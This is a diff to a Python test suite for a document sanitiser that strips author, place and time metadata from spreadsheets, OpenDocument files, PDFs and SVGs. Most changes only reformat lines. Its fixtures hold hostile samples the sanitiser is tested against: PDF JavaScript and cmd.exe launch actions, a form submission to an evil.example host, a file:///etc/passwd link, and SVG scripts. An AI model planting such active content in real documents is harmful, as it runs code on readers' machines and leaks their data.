@@ -1,7 +1,7 @@
-"""Nothing of a file but what its author shows reaches reviewers: no name, organisation, place or time; the rest stays."""
+"""Reviewers get of a file what its author shows: no name, organisation, place or time besides; the rest stays."""
 
 import io
-from typing import Any
+from typing import Any, cast
 
 import pikepdf
 import pytest
@@ -131,7 +131,9 @@ def test_links_that_people_follow_stay_but_not_those_to_their_own_disk() -> None
 
 
 def test_names_in_a_workbook_go_and_what_was_said_stays() -> None:
-    comments = f"<comments><authors><author>{MARK} Person</author></authors><t>{MARK} Person:</t><t> Too low?</t></comments>"
+    comments = (
+        f"<comments><authors><author>{MARK} Person</author></authors><t>{MARK} Person:</t><t> Too low?</t></comments>"
+    )
     persons = f'<personList><person displayName="{MARK}" userId="S::{MARK}@example.org" providerId="AD"/></personList>'
     path = f'<absPath url="C:\\Users\\{MARK}\\"/>'
     content = xlsx(
@@ -140,7 +142,9 @@ def test_names_in_a_workbook_go_and_what_was_said_stays() -> None:
             "xl/comments1.xml": comments,
             "xl/persons/person.xml": persons,
             "xl/printerSettings/printerSettings1.bin": MARK.encode("utf-16-le"),
-            "xl/worksheets/_rels/sheet1.xml.rels": links(link(1, "printerSettings", "../printerSettings/printerSettings1.bin")),
+            "xl/worksheets/_rels/sheet1.xml.rels": links(
+                link(1, "printerSettings", "../printerSettings/printerSettings1.bin")
+            ),
         },
     )
     kept = members(content)
@@ -175,7 +179,7 @@ def test_names_in_an_open_document_go_and_what_was_said_stays() -> None:
         f"<office:annotation><dc:creator>{MARK}</dc:creator><meta:creator-initials>ZX</meta:creator-initials>"
         f"<text:p>Why?</text:p></office:annotation><text:author-name>{MARK}</text:author-name>"
         f"<text:sender-company>{MARK}</text:sender-company><text:file-name>{MARK}.odt</text:file-name>",
-        **{
+        more={
             "settings.xml": f'<office:settings {samples.OPEN}><config:config-item config:name="PrinterName">{MARK}</config:config-item></office:settings>',
             "Configurations2/accelerator/current.xml": "<a/>",
             "META-INF/documentsignatures.xml": f"<a>{MARK}</a>",
@@ -207,7 +211,7 @@ def test_what_would_run_in_an_open_document_is_taken_out() -> None:
 def test_pictures_and_tables_within_an_open_document_stay() -> None:
     content = opened(
         '<draw:image xlink:href="Pictures/a.jpg"/><draw:object xlink:href="./Object 1"/>',
-        **{"Pictures/a.jpg": picture("JPEG", marked=True), "Object 1/content.xml": "<a/>"},
+        more={"Pictures/a.jpg": picture("JPEG", marked=True), "Object 1/content.xml": "<a/>"},
     )
     kept = members(content)
     assert {"Pictures/a.jpg", "Object 1/content.xml"} <= set(kept)
@@ -220,7 +224,12 @@ def test_pictures_and_tables_within_an_open_document_stay() -> None:
 def test_a_pdf_tells_nothing_of_its_author() -> None:
     def sign_and_note(made: pikepdf.Pdf) -> None:
         note = pikepdf.Dictionary(
-            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], T=MARK, Contents="Why?", M="D:20270101"
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Text,
+            Rect=[0, 0, 9, 9],
+            T=MARK,
+            Contents="Why?",
+            M="D:20270101",
         )
         made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])
         signature = pikepdf.Dictionary(Type=pikepdf.Name.Sig, Name=MARK, ByteRange=[0, 1, 2, 3], Cert=MARK.encode())
@@ -251,7 +260,7 @@ def test_a_photograph_within_a_pdf_tells_no_place() -> None:
     kept = clean(content).content
     assert MARK.encode() not in kept
     with pikepdf.open(io.BytesIO(kept)) as made:
-        assert pikepdf.PdfImage(made.pages[0].Resources.XObject.P).as_pil_image().size == (24, 16)
+        assert pikepdf.PdfImage(cast(pikepdf.Stream, made.pages[0].Resources.XObject.P)).as_pil_image().size == (24, 16)
 
 
 def action(kind: str, **more: Any) -> pikepdf.Dictionary:
@@ -272,9 +281,14 @@ def set_root(name: str, value: Any) -> Any:
         set_root("/OpenAction", action("JavaScript", JS="app.alert(1)")),
         set_root("/OpenAction", action("Launch", F="cmd.exe")),
         set_root("/AA", pikepdf.Dictionary(WC=action("JavaScript", JS="1"))),
-        set_root("/Names", pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", action("JavaScript", JS="1")]))),
+        set_root(
+            "/Names", pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", action("JavaScript", JS="1")]))
+        ),
         set_root("/AcroForm", pikepdf.Dictionary(XFA="<xdp/>")),
-        set_root("/Deep", pikepdf.Array([pikepdf.Dictionary(A=pikepdf.Array([action("SubmitForm", F="https://evil.example")]))])),
+        set_root(
+            "/Deep",
+            pikepdf.Array([pikepdf.Dictionary(A=pikepdf.Array([action("SubmitForm", F="https://evil.example")]))]),
+        ),
         lambda made: made.pages[0].__setitem__(
             "/Annots", pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name("/RichMedia"), Rect=[0, 0, 1, 1])])
         ),
@@ -298,8 +312,12 @@ def test_where_a_pdf_opens_is_forgotten_and_its_links_stay() -> None:
         made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
         made.pages[0].Annots = pikepdf.Array(
             [
-                pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action("URI", URI="https://unhabitat.org/")),
-                pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action("URI", URI="file:///etc/passwd")),
+                pikepdf.Dictionary(
+                    Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action("URI", URI="https://unhabitat.org/")
+                ),
+                pikepdf.Dictionary(
+                    Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action("URI", URI="file:///etc/passwd")
+                ),
                 pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action("GoToR", F="other.pdf")),
             ]
         )
@@ -372,7 +390,7 @@ def test_a_drawing_inside_a_document_runs_and_loads_nothing() -> None:
     svg = (
         '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="a()">'
         f'<metadata>{MARK}</metadata><script>a()</script><image xlink:href="https://evil.example/a.png"/>'
-        "<style>@import 'https://evil.example/a.css';</style><path d=\"M0 0\" onclick=\"a()\"/></svg>"
+        '<style>@import \'https://evil.example/a.css\';</style><path d="M0 0" onclick="a()"/></svg>'
     )
     kept = bare_picture("word/media/a.svg", svg.encode())
     assert b'<path d="M0 0"/>' in kept
